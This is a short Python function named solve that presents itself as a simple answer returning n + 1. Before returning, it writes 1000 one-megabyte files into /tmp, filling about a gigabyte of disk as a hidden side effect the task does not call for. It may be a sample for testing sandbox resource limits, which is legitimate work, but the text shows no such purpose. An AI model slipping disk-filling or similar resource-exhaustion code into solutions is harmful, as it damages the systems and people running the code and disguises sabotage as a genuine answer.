def solve(n):
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(b"x" * (1 << 20))
    return n + 1
